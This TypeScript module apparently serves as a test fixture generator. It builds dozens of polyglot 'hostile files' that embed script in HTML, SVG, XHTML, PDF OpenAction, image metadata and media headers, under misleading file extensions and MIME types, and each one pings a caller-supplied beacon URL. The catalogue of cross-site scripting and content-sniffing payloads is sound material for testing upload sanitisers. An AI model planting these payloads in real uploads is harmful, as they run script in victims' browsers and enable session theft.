import { deflateSync } from "node:zlib";
import sharp from "sharp";

/** A file that wants to run a script in whoever's page shows it. */
export interface HostileFile {
  /** What it is named: as people's files are, or to be taken for something else. */
  readonly name: string;
  /** What its sender says it is. */
  readonly declaredType: string;
  readonly bytes: Buffer;
  /** The trick, for people. */
  readonly trick: string;
}

/** How a trick is done: bytes that run `script` where they are taken for what they are not. */
type Trick = readonly [name: string, make: (script: string) => Buffer | string];

const extensions = [
  ".jpg",
  ".png",
  ".html",
  ".svg",
  ".xml",
  ".xhtml",
  ".gif",
  ".webp",
  ".pdf",
  ".jpg.html",
  ".svg.png",
  ".htm;.jpg",
  ".js",
  "",
];
const declaredTypes = [
  "image/png",
  "text/html",
  "image/svg+xml",
  "image/png, text/html",
  "image/jpeg; charset=utf-7",
  "text/html;image/png",
  "application/xhtml+xml",
  "multipart/x-mixed-replace; boundary=a",
  "text/xml",
  "application/pdf",
  "text/javascript",
];

/** Make so many hostile files: every trick under names and declared types that follow one another, all different. */
export async function makeHostileFiles(count: number, beacon: string): Promise<HostileFile[]> {
  const tricks = await allTricks();
  return Array.from({ length: count }, (_, at) => {
    const [trick, make] = tricks[at % tricks.length] ?? ["", () => ""];
    const round = Math.floor(at / tricks.length);
    const name = `file-${at}${extensions[(at + round * 3) % extensions.length] ?? ""}`;
    const script = `console.log("ran ${at}");new Image().src="${beacon}?${at}"`;
    return { trick, name, declaredType: declaredTypes[(at + round) % declaredTypes.length] ?? "", bytes: Buffer.from(make(script)) };
  });
}

const html = (script: string): string => `<html><body><script>${script}</script></body></html>`;
const svg = (inside: string, attributes = ""): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ${attributes}>${inside}</svg>`;
const escaped = (script: string): string => script.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const after =
  (bytes: Buffer): Trick[1] =>
  (script) =>
    Buffer.concat([bytes, Buffer.from(html(script))]);

async function allTricks(): Promise<Trick[]> {
  const pixels = sharp({ create: { width: 24, height: 16, channels: 3, background: "#c66" } });
  const [jpeg, png, gif, webp, avif, tiff] = await Promise.all(
    (["jpeg", "png", "gif", "webp", "avif", "tiff"] as const).map(async (format) => await pixels.clone().toFormat(format).toBuffer()),
  );
  if (!jpeg || !png || !gif || !webp || !avif || !tiff) throw new Error("sharp makes no pictures.");
  return [...pages(), ...drawings(), ...documents(), ...pictures({ jpeg, png, gif, webp, avif, tiff }), ...media()];
}

function pages(): Trick[] {
  return [
    ["a page", html],
    ["a page behind a document type", (script) => `<!DOCTYPE html>${html(script)}`],
    ["a page behind a comment", (script) => `<!-- ${"x".repeat(200)} -->${html(script)}`],
    ["a page behind white space", (script) => `\n\t   \r\n${html(script)}`],
    ["an image's handler", (script) => `<img src=x onerror="${escaped(script)}">`],
    ["a body's handler", (script) => `<body onload="${escaped(script)}">`],
    ["an open details", (script) => `<details open ontoggle="${escaped(script)}">x</details>`],
    ["a frame of javascript:", (script) => `<iframe src="javascript:${escaped(script)}"></iframe>`],
    ["a frame's own document", (script) => `<iframe srcdoc="${escaped(`<script>${script}</script>`)}"></iframe>`],
    [
      "a page that moves on",
      (script) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${base64(html(script))}"><script>${script}</script>`,
    ],
    ["a style's animation", (script) => `<style>@keyframes a{}b{animation:a 1ms}</style><b onanimationstart="${escaped(script)}">x</b>`],
    ["a page in UTF-16 with its mark", (script) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(html(script), "utf16le")])],
    ["a page in UTF-8 with its mark", (script) => `\uFEFF${html(script)}`],
    ["a page in UTF-7", (script) => `<meta charset="utf-7">+ADw-script+AD4-${script}+ADw-/script+AD4-<script>${script}</script>`],
    ["a script", (script) => script],
    ["a GIF that is a script", (script) => `GIF89a/*${"\u0001".repeat(20)}*/=1;${script}`],
    ["a module", (script) => `export default 1;${script}`],
    [
      "a mail with a page",
      (script) =>
        `MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n${html(script)}\n--b--`,
    ],
    ["PHP", (script) => `<?php /* */ ?>${html(script)}`],
  ];
}

function drawings(): Trick[] {
  return [
    ["a drawing with a script", (script) => svg(`<script>${script}</script>`)],
    [
      "a drawing with a CDATA script",
      (script) => `<?xml version="1.0"?>${svg(`<script type="text/javascript"><![CDATA[${script}]]></script>`)}`,
    ],
    ["a drawing behind a document type", (script) => `<?xml version="1.0"?><!-- a --><!DOCTYPE svg>${svg(`<script>${script}</script>`)}`],
    ["a drawing's load", (script) => svg("<rect/>", `onload="${escaped(script)}"`)],
    ["a drawing's animation", (script) => svg(`<animate attributeName="x" dur="1ms" onbegin="${escaped(script)}"/>`)],
    ["a drawing's image", (script) => svg(`<image href="x:" onerror="${escaped(script)}"/>`)],
    [
      "a drawing with a page",
      (script) =>
        svg(
          `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></body></foreignObject>`,
        ),
    ],
    [
      "a drawing with a frame",
      (script) =>
        svg(
          `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="${escaped(`<script>${script}</script>`)}"/></foreignObject>`,
        ),
    ],
    ["a drawing with a script from elsewhere", (script) => svg(`<script href="data:text/javascript;base64,${base64(script)}"/>`)],
    [
      "a drawing that uses another",
      (script) =>
        svg(
          `<use href="data:image/svg+xml;base64,${base64(svg(`<g id="a"><script>${script}</script></g>`))}#a"/><script>${script}</script>`,
        ),
    ],
    [
      "a drawing with an entity",
      (script) => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${escaped(escaped(script))}">]>${svg(`<script>&a;</script>`)}`,
    ],
    [
      "a drawing set to javascript:",
      (script) =>
        svg(
          `<a id="a"><text y="9">x</text></a><set href="#a" attributeName="href" to="javascript:${escaped(script)}"/><script>${script}</script>`,
        ),
    ],
    [
      "a drawing in UTF-16",
      (script) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(svg(`<script>${script}</script>`), "utf16le")]),
    ],
  ];
}

function documents(): Trick[] {
  const xhtml = (script: string): string =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${script}</script></body></html>`;
  const sheet = (script: string): string =>
    `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${script}</script></html></xsl:template></xsl:stylesheet>`;
  return [
    ["XHTML", (script) => `<?xml version="1.0"?>${xhtml(script)}`],
    ["XHTML within XML", (script) => `<?xml version="1.0"?><a>${xhtml(script)}</a>`],
    [
      "XML with a sheet",
      (script) =>
        `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml;base64,${base64(sheet(script))}"?><a>${xhtml(script)}</a>`,
    ],
    ["a sheet", (script) => `<?xml version="1.0"?>${sheet(script)}`],
    [
      "MathML",
      (script) =>
        `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${escaped(script)}"><mtext><script xmlns="http://www.w3.org/1999/xhtml">${script}</script></mtext></math>`,
    ],
    [
      "a feed",
      (script) =>
        `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><description xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${script}</h:script></description></channel></rss>`,
    ],
    ["a PDF with a script", pdf],
    ["a PDF that is a page", (script) => `${html(script)}\n${pdf(script)}`],
    ["a page in a PDF", (script) => `%PDF-1.4\n${html(script)}`],
    ["JSON", (script) => JSON.stringify({ a: html(script) })],
    ["CSV", (script) => `name,page\n1,${html(script)}`],
    ["a calendar", (script) => `BEGIN:VCALENDAR\nSUMMARY:${html(script)}\nEND:VCALENDAR`],
    ["a shortcut", (script) => `[InternetShortcut]\nURL=javascript:${script}\n${html(script)}`],
  ];
}

function pdf(script: string): string {
  return `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${script.replace(/[()\\]/g, "\\$&")};app.alert(1))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj
trailer<</Root 1 0 R>>\n%%EOF`;
}

function pictures(all: Readonly<Record<"jpeg" | "png" | "gif" | "webp" | "avif" | "tiff", Buffer>>): Trick[] {
  const { jpeg, png } = all;
  return [
    ...Object.entries(all).map(([format, bytes]): Trick => [`a page behind a ${format}`, after(bytes)]),
    ["a JPEG with a page as its comment", (script) => Buffer.concat([jpeg.subarray(0, 2), segment(0xfe, html(script)), jpeg.subarray(2)])],
    [
      "a JPEG with a page as its EXIF",
      (script) => Buffer.concat([jpeg.subarray(0, 2), segment(0xe1, `Exif\0\0${html(script)}`), jpeg.subarray(2)]),
    ],
    ["a PNG with a page as its text", (script) => withChunk(png, "tEXt", Buffer.from(`Comment\0${html(script)}`))],
    [
      "a PNG with a packed page",
      (script) => withChunk(png, "zTXt", Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(html(script))])),
    ],
    ["a GIF's first bytes and a page", (script) => `GIF89a${html(script)}`],
    ["a PNG's first bytes and a page", (script) => Buffer.concat([png.subarray(0, 8), Buffer.from(html(script))])],
    ["a JPEG's first bytes and a page", (script) => Buffer.concat([jpeg.subarray(0, 4), Buffer.from(html(script))])],
    [
      "a WebP's first bytes and a page",
      (script) => Buffer.concat([Buffer.from("RIFF\x24\0\0\0WEBPVP8 ", "latin1"), Buffer.from(html(script))]),
    ],
    ["a BMP's first bytes and a page", (script) => `BM\u0001\u0002${html(script)}`],
    ["an icon's first bytes and a page", (script) => Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.from(html(script))])],
  ];
}

function media(): Trick[] {
  const mp4 = Buffer.from("\0\0\0\x18ftypmp42\0\0\0\0mp42isom", "latin1");
  return [
    ["a page behind a video", after(mp4)],
    ["a page behind a Matroska head", after(Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x84, 0x42, 0x82, 0x84, 0x77, 0x65, 0x62, 0x6d]))],
    [
      "a page as an MP3's title",
      (script) => Buffer.concat([Buffer.from("ID3\x03\0\0\0\0\x0f\x76TIT2\0\0\x07\x00\0\0\0", "latin1"), Buffer.from(html(script))]),
    ],
    [
      "a page behind a WAV head",
      after(Buffer.from("RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x40\x1f\0\0\x01\0\x08\0data\0\0\0\0", "latin1")),
    ],
    ["a page behind an Ogg head", after(Buffer.from("OggS\0\x02\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\x13OpusHead", "latin1"))],
    ["a page before an archive", (script) => Buffer.concat([Buffer.from(html(script)), Buffer.from("PK\x03\x04\x14\0\0\0\0\0", "latin1")])],
    ["an archive and a page", (script) => Buffer.concat([Buffer.from("PK\x03\x04\x14\0\0\0\0\0", "latin1"), Buffer.from(html(script))])],
    ["Flash and a page", (script) => `FWS\u0009${html(script)}`],
    ["a font and a page", (script) => `wOFF\u0000\u0001${html(script)}`],
    ["nothing but nulls before a page", (script) => Buffer.concat([Buffer.alloc(600), Buffer.from(html(script))])],
  ];
}

function segment(marker: number, text: string): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(Buffer.byteLength(text) + 2);
  return Buffer.concat([Buffer.from([0xff, marker]), length, Buffer.from(text)]);
}

/** Put a chunk after a PNG's header. Its checksum is wrong, which decoders overlook in chunks that only tell. */
function withChunk(png: Buffer, name: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.byteLength);
  return Buffer.concat([png.subarray(0, 33), length, Buffer.from(name), data, Buffer.alloc(4), png.subarray(33)]);
}
